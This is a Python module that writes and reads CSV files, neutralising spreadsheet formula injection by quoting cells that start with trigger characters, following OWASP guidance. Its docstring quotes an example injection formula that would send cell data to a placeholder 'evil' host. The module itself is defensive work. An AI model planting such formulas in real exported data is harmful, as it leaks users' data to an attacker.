"""Every CSV the tool writes, and how the tool reads its own CSVs back.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: a logged question ``=HYPERLINK("http://evil/?"&A1)``
would become a live link in per_question.csv. Following OWASP's guidance on CSV injection,
such a text cell is written with a single quote in front (``'=HYPERLINK(...)``), which a
spreadsheet shows as text. Numbers are never touched: a float ``-0.5`` is written as ``-0.5``,
and so is a text cell that is a plain number (no spreadsheet runs ``-0.5`` as anything else).

To read the original value back, strip ONE leading ``'`` from a text cell that starts with
one: a cell that already started with ``'`` is written with a second one, so the rule has no
exceptions (`restore`; `read_csv` does it for a pandas frame, `restore_row` for csv.reader).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from sweep.common.files import atomic_write

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def neutralise(value: Any) -> Any:
    """A cell as written: a text starting with a formula trigger (or with the quote itself)
    gets a leading ``'``; numbers, None and a text that is a plain number are kept."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(QUOTE):
        return QUOTE + value
    if value.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """The value `neutralise` was given, from the text cell it wrote."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[1:]
    return value


def restore_row(values: Sequence[str]) -> list[str]:
    return [restore(v) for v in values]


# Cells `neutralise` keeps as they are, by their exact type: checked first, as most cells of
# a per_question.csv are numbers (a million cells a sweep); then a plain text that starts
# with none of `_FIRST`. None is among them: the ``csv`` module writes it as an empty cell,
# as it writes "" (excel dialect, QUOTE_MINIMAL). Anything else (a str subclass, a numpy
# number) goes through `neutralise` itself.
_AS_IS = frozenset({int, float, bool, type(None)})
# A text `neutralise` can change starts with one of these (the others are kept as they are).
_FIRST = frozenset((*TRIGGERS, QUOTE))


class _FloatTexts(dict[float, str]):
    """A float's text as the ``csv`` module writes it (``repr``), made once per value: a
    per_question.csv holds ~60,000 floats of a few thousand values (1.0, 0.5, ...). Zero is
    never looked up here (0.0 and -0.0 are equal keys with different texts), and a NaN is
    a key only of itself."""

    def __missing__(self, value: float) -> str:
        text = self[value] = repr(value)
        return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The CSV (``csv`` module's excel dialect) of ``header`` and ``rows``, every cell through
    `neutralise`; None is written as an empty cell."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([neutralise(h) for h in header])
    as_is, first, floats = _AS_IS, _FIRST, _FloatTexts()
    # A float's text is the one the writer would make (it quotes none: no comma, quote or
    # line break in a float's repr); anything else as before.
    writer.writerows([(floats[v] if v else v) if (c := v.__class__) is float
                      else v if c in as_is or (c is str and v[:1] not in first)
                      else neutralise(v) for v in row] for row in rows)
    return buf.getvalue()


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Path:
    """`csv_text` written atomically: the one writer of every CSV the tool makes."""
    atomic_write(path, csv_text(header, rows))
    return path


def read_csv(path: Any, **kwargs: Any) -> Any:
    """``pandas.read_csv`` with every text cell (and column name) through `restore`: what a
    tool's CSV held before it was written. Numeric columns are read as numbers, as before."""
    import pandas as pd

    frame = pd.read_csv(path, **kwargs)
    return restore_frame(frame)


def read_header(path: Path) -> list[str]:
    """The column names of a tool's CSV, restored, as `read_csv` names them (a UTF-8 BOM
    dropped): the first record only, without pandas (a reader that picks its columns reads
    the header first; pandas' ``nrows=0`` costs as much as the file's columns it uses).
    Empty for an empty file."""
    with Path(path).open(newline="", encoding="utf-8-sig") as f:
        return restore_row(next(csv.reader(f), []))


def restore_frame(frame: Any) -> Any:
    import pandas as pd

    frame.columns = [restore(c) for c in frame.columns]
    for col in frame.columns:
        series = frame[col]
        if series.dtype == object or pd.api.types.is_string_dtype(series):
            frame[col] = series.map(restore)
    return frame
